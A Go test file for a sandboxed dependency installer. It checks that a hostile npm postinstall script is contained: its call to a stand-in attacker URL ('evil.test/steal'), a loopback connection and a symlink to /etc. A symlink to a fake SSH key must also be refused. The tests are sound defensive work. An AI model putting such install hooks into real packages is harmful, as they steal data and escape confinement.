package testrun

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"crypto/sha512"
	"encoding/base64"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"redgreen/backend/sandbox"
)

// npmPackage packs files as npm does and gives the tarball with its integrity.
func npmPackage(t *testing.T, files map[string]string) (data []byte, integrity string) {
	t.Helper()
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	w := tar.NewWriter(z)
	for name, text := range files {
		if err := w.WriteHeader(&tar.Header{Name: "package/" + name, Mode: 0o644, Size: int64(len(text)), Typeflag: tar.TypeReg}); err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(text)); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	sum := sha512.Sum512(b.Bytes())
	return b.Bytes(), "sha512-" + base64.StdEncoding.EncodeToString(sum[:])
}

// postinstall is what a hostile package tries: another host, the host's loopback, a link out of what is kept.
const postinstall = `const http = require('http'), net = require('net'), fs = require('fs');
const proxy = new URL(process.env.HTTP_PROXY);
http.get({host: proxy.hostname, port: proxy.port, path: 'http://evil.test/steal'}, r => { if (r.statusCode !== 403) process.exit(3); r.resume(); });
net.connect(%s, '127.0.0.1').on('connect', () => process.exit(4)).on('error', () => {});
fs.symlinkSync('/etc', 'etc');
`

// TestPrepare installs from a stand-in registry with the real npm in the real sandbox: the registry alone is reached, what
// is refused is logged, the folder does not change, and later runs see what was installed, read-only, for this lockfile.
func TestPrepare(t *testing.T) {
	b := realBench(t, sandbox.Limits{Wall: time.Minute})
	if len(thisHost().programs("npm")) == 0 {
		t.Skip("npm is not installed")
	}
	var tarball []byte
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = w.Write(tarball) }))
	defer server.Close()
	_, port, _ := strings.Cut(server.Listener.Addr().String(), ":")
	var integrity string
	tarball, integrity = npmPackage(t, map[string]string{
		"package.json": `{"name": "answer", "version": "1.0.0", "main": "index.js", "scripts": {"postinstall": "node post.js"}}`,
		"index.js":     "module.exports = 42;\n", "post.js": fmt.Sprintf(postinstall, port)})
	lock := `{"name": "x", "lockfileVersion": 3, "requires": true, "packages": {"": {"dependencies": {"answer": "1.0.0"}},
  "node_modules/answer": {"version": "1.0.0", "resolved": "http://registry.test/answer/-/answer-1.0.0.tgz", "integrity": "` + integrity + `", "hasInstallScript": true}}}`
	dir := b.folder(t, func(dir string) {
		writeFile(t, dir, "package.json", `{"dependencies": {"answer": "1.0.0"}}`)
		writeFile(t, dir, "package-lock.json", lock)
		writeFile(t, dir, "test/a.test.js", "const test = require('node:test'), assert = require('node:assert'), fs = require('fs');\n"+
			"test('a', () => { assert.equal(require('answer'), 42); assert.throws(() => fs.writeFileSync('node_modules/x', '')); });\n")
	})
	prepared := t.TempDir()
	o := b.runner.options
	o.Prepared, o.Source = prepared, dir
	r := New(o)
	steps, err := r.Plan(dir)
	if err != nil || len(steps) != 1 {
		t.Fatalf("Plan = %+v, %v", steps, err)
	}
	s := steps[0]
	if s.Name != "npm" || s.Lockfile != "package-lock.json" || s.Ready || s.Problem != "" || !slices.Equal(s.Commands[0], []string{"npm", "ci", "--no-audit", "--no-fund"}) || !slices.Equal(s.Hosts, []string{"registry.npmjs.org"}) {
		t.Fatalf("step %+v", s)
	}
	fixed := map[string]string{"registry.test:80": server.Listener.Addr().String()}
	p, err := r.Prepare(t.Context(), dir, s, PrepareOptions{Fixed: fixed})
	if err != nil || p.OK || !strings.Contains(p.Reason, "registry.test") {
		t.Fatalf("without leave for the host: %+v, %v", p, err)
	}
	p, err = r.Prepare(t.Context(), dir, s, PrepareOptions{Allow: []string{"registry.test"}, Fixed: fixed})
	if err != nil || !p.OK {
		t.Fatalf("Prepare = %s, %v\n%s", p.Reason, err, p.Log)
	}
	if !slices.ContainsFunc(p.Refused, func(c sandbox.Count) bool { return c.Host == "evil.test" && c.Port == "80" }) {
		t.Errorf("the package's own try is not logged: %+v", p.Refused)
	}
	if exists(dir, "node_modules") {
		t.Error("the folder has changed")
	}
	command := Command{Runner: "node", Args: []string{"node", "--test"}}
	run := func() Run {
		got, err := New(o).Run(t.Context(), dir, command, nil)
		if err != nil {
			t.Fatal(err)
		}
		return got
	}
	if got := run(); got.Infrastructure || len(got.Tests) != 1 || got.Tests[0].Status != Passed {
		t.Errorf("with what was installed: %+v %s\n%s", got.Tests, got.Reason, got.Log)
	}
	if steps, err := r.Plan(dir); err != nil || !steps[0].Ready {
		t.Errorf("Plan afterwards: %+v, %v", steps, err)
	}
	if left, _ := filepath.Glob(filepath.Join(prepared, "making-*")); len(left) != 0 {
		t.Errorf("left behind: %v", left)
	}
	writeFile(t, dir, "package-lock.json", strings.ReplaceAll(lock, `"x"`, `"y"`))
	if got := run(); len(got.Tests) == 1 && got.Tests[0].Status == Passed {
		t.Error("another lockfile sees what was installed for the first")
	}
	if _, err := r.Prepare(t.Context(), tree(t, "-- package.json --\n{}\n-- yarn.lock --\n"), s, PrepareOptions{}); err == nil {
		t.Error("a step is run on a folder that it was not shown for")
	}
}

// TestKeptLinksAreNoFolders holds that a link which an installation leaves in place of a folder shows nothing.
func TestKeptLinksAreNoFolders(t *testing.T) {
	secret := tree(t, "-- id_rsa --\nkey\n")
	prepared := t.TempDir()
	dir := tree(t, "-- package.json --\n{}\n-- package-lock.json --\n{}\n-- a.test.js --\n")
	r := &Runner{options: Options{Prepared: prepared, TempDir: t.TempDir(), Source: dir}, host: thisHost(), owner: func() (int, int, bool) { return 0, 0, false }}
	steps, err := r.Plan(dir)
	if err != nil || len(steps) != 1 {
		t.Fatalf("Plan = %+v, %v", steps, err)
	}
	making := filepath.Join(prepared, "making-1")
	writeFile(t, making, "out/keep/tree/x/y", "")
	if err := os.Symlink(secret, filepath.Join(making, "out/keep/tree/node_modules")); err != nil {
		t.Fatal(err)
	}
	if err := r.keep(making, steps[0]); err != nil {
		t.Fatal(err)
	}
	if rec, ok := r.installed(steps[0].key); !ok || len(rec.Folders) != 0 {
		t.Errorf("kept %+v", rec)
	}
	// A link in the place of all that is kept, or of its tree, would be taken for a folder of ours.
	writeFile(t, secret, "tree/node_modules/x", "")
	for i, link := range []string{"out/keep", "out/keep/tree"} {
		making := filepath.Join(prepared, fmt.Sprintf("making-link-%d", i))
		if err := os.MkdirAll(filepath.Dir(filepath.Join(making, link)), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(secret, filepath.Join(making, link)); err != nil {
			t.Fatal(err)
		}
		if err := r.keep(making, steps[0]); err == nil {
			t.Errorf("a link at %s is kept", link)
		}
	}
	// Also one that was put there afterwards is not followed.
	writeFile(t, filepath.Join(prepared, steps[0].key), "record.json", `{"folders": ["node_modules", "../../x"]}`)
	j, err := r.newJob(dir, Command{Runner: "node", Args: []string{"node", "--test"}}, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer j.close()
	for _, m := range j.spec.ReadOnly {
		if strings.Contains(m.Source, secret) || strings.Contains(m.Target, "node_modules") {
			t.Errorf("shows %+v", m)
		}
	}
}

// TestInstallKeyTakesInWhatALockfileTakesIn: another text of a file that requirements.txt includes is another installation,
// as are another folder of the same texts, another tool and another image.
func TestInstallKeyTakesInWhatALockfileTakesIn(t *testing.T) {
	const files = "-- requirements.txt --\n-r req/base.txt\n-c ../out.txt\n-- req/base.txt --\na==1\n--constraint=limits.txt\n-- req/limits.txt --\nb<2\n"
	r := &Runner{}
	key := func(dir, image, tool string) string {
		return r.installKey(dir, image, Step{Name: "pip", Tool: tool}, folder{root: dir}, []string{"requirements.txt"})
	}
	dir := tree(t, files)
	first := key(dir, "", "/usr/bin/python3")
	seen := []string{first}
	for name, change := range map[string]string{"req/base.txt": "a==2\n--constraint=limits.txt\n", "req/limits.txt": "b<3\n"} {
		writeFile(t, dir, name, change)
		if k := key(dir, "", "/usr/bin/python3"); slices.Contains(seen, k) {
			t.Errorf("a change of %s leaves the key", name)
		} else {
			seen = append(seen, k)
		}
	}
	dir = tree(t, files)
	for _, k := range []string{key(dir, "", "/usr/bin/python3"), key(dir, "x", "/usr/bin/python3"), key(dir, "", "/usr/bin/python3.12")} {
		if slices.Contains(seen, k) {
			t.Error("another folder, image or tool has the same key")
		}
		seen = append(seen, k)
	}
}

func TestPlan(t *testing.T) {
	for _, tt := range []struct {
		name, files string
		want        []string // dir name lockfile
	}{
		{"nothing", "-- a.py --\n", nil},
		{"pip with two files", "-- requirements.txt --\nx\n-- requirements-dev.txt --\ny\n", []string{". pip requirements.txt"}},
		{"uv before pip", "-- uv.lock --\n-- requirements.txt --\n", []string{". uv uv.lock"}},
		{"poetry", "-- poetry.lock --\n", []string{". poetry poetry.lock"}},
		{"npm", "-- package.json --\n{}\n-- package-lock.json --\n{}\n", []string{". npm package-lock.json"}},
		{"a lockfile without its package", "-- package-lock.json --\n{}\n", nil},
		{"pnpm", "-- package.json --\n{}\n-- pnpm-lock.yaml --\n", []string{". pnpm pnpm-lock.yaml"}},
		{"yarn of today", "-- package.json --\n{}\n-- yarn.lock --\n-- .yarnrc.yml --\n", []string{". yarn yarn.lock"}},
		{"yarn of old", "-- package.json --\n{}\n-- yarn.lock --\n", []string{". yarn 1 yarn.lock"}},
		{"go and npm in parts", "-- go.mod --\nmodule m\n-- go.sum --\n-- web/package.json --\n{}\n-- web/package-lock.json --\n{}\n", []string{". go go.sum", "web npm web/package-lock.json"}},
		{"cargo", "-- Cargo.toml --\n-- Cargo.lock --\n", []string{". cargo Cargo.lock"}},
		{"maven", "-- pom.xml --\n", []string{". maven pom.xml"}},
		{"bundler", "-- Gemfile --\n-- Gemfile.lock --\n", []string{". bundler Gemfile.lock"}},
		{"composer", "-- composer.json --\n-- composer.lock --\n", []string{". composer composer.lock"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			r := &Runner{options: Options{TempDir: t.TempDir()}, host: thisHost(), owner: func() (int, int, bool) { return 0, 0, false }}
			steps, err := r.Plan(tree(t, tt.files))
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, s := range steps {
				dir := s.Dir
				if dir == "" {
					dir = "."
				}
				got = append(got, dir+" "+s.Name+" "+s.Lockfile)
				if s.Problem == "" && (len(s.Commands) == 0 || len(s.Hosts) == 0) {
					t.Errorf("step %+v", s)
				}
			}
			if !slices.Equal(got, tt.want) {
				t.Errorf("plans %q, want %q", got, tt.want)
			}
		})
	}
}
